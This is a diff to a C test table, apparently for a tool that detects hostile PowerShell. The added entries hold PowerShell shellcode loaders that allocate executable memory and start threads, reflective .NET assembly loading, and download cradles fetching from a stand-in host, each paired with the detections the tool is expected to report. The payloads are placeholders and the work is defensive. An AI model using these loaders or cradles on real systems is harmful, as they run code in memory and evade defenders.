@@ -14,6 +14,30 @@ static const struct technique {
     const char *name, *script;
     const char *want[5]; /* each stands in what is told */
 } techniques[] = {
+    {"code in memory by declared functions",
+     "Add-Type @'\nusing System;\npublic class K {\n[DllImport(\"kernel32\")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);\n"
+     "[DllImport(\"ntdll\", EntryPoint=\"RtlMoveMemory\")]\npublic static extern void Mv(IntPtr a, byte[] b, uint n);\n"
+     "[DllImport(\"kernel32\")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);}\n'@\n"
+     "$b=[Convert]::FromBase64String('dGV4dA==');$m=[K]::VirtualAlloc(0,$b.Length,0x3000,0x40);[K]::Mv($m,$b,4);[K]::CreateThread(0,0,$m,0,0,0);for(;;){sleep 60}",
+     {"load library=ntdll function=RtlMoveMemory via=Add-Type", "run command=code in memory path=memory via=CreateThread flow=decoded computed", "code in memory"}},
+    {"a byte at a time",
+     "$w=Add-Type -Name q -Namespace q -PassThru -MemberDefinition '[DllImport(\"kernel32\")] static extern IntPtr VirtualAlloc(int a); [DllImport(\"msvcrt\")] static extern IntPtr memset(int a); "
+     "[DllImport(\"kernel32\")] static extern IntPtr CreateThread(int a);'\n[byte[]]$z=0x74,0x65;$m=$w::VirtualAlloc(0,2,0x3000,0x40);for($i=0;$i -lt 2;$i++){$w::memset([IntPtr]($m.ToInt32()+$i),$z[$i],1)}\n"
+     "$w::CreateThread(0,0,$m,0,0,0)",
+     {"run command=code in memory path=memory via=CreateThread"}},
+    {"delegate of a function pointer",
+     "$b=[Convert]::FromBase64String('dGV4dA==');$m=[Runtime.InteropServices.Marshal];$va=$m::GetDelegateForFunctionPointer((nowhere kernel32 VirtualAlloc),$t)\n$p=$va.Invoke([IntPtr]::Zero,$b.Length,0x3000,0x40)\n"
+     "$m::Copy($b,0,$p,$b.Length);$m::GetDelegateForFunctionPointer($p,$t).Invoke([IntPtr]::Zero)",
+     {"run command=code in memory path=memory via=Delegate.Invoke flow=decoded"}},
+    {"library of .NET in memory",
+     "$t='Net.WebClient' -as [type]\n$w=[Activator]::CreateInstance($t)\n$a=[Reflection.Assembly]::Load($w.DownloadData('http://a.example/x'))\n$a.GetType('X.Y').GetMethod('Z').Invoke($null,$null)",
+     {"download url=http://a.example/x", "load library=memory via=Assembly.Load flow=network", "run command=code in memory path=memory via=Assembly.Load flow=network"}},
+    {"a static method of a library in memory",
+     "[AppDomain]::CurrentDomain.Load([Convert]::FromBase64String('TVo=')) | Out-Null\n[Windows.Forms.Application]::DoEvents();[Quiet.Class1]::Go()",
+     {"run command=code in memory path=memory via=Assembly.Load flow=decoded"}},
+    {"type by its name",
+     "$w=[Activator]::CreateInstance([Type]::GetType('System.Net.WebClient, System'));$w.DownloadFile('http://a.example/x','C:\\t\\x.exe')",
+     {"download url=http://a.example/x path=C:\\t\\x.exe"}},
     {"plain",
      "(New-Object Net.WebClient).DownloadFile('http://a.example/x','C:\\t\\x.exe')",
      {"download url=http://a.example/x path=C:\\t\\x.exe"}},
